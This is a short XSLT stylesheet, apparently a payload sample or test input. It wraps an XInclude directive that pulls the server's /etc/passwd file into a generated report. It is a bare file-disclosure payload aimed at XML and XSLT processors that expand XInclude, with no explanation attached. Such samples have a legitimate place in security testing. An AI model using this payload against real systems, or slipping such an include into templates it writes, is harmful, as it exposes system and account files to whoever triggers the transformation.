<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:xi="http://www.w3.org/2001/XInclude">
<xsl:template match="/">
  <report><title><word key="title"/></title><section>
    <xi:include href="/etc/passwd"/>
  </section></report>
</xsl:template>
</xsl:stylesheet>
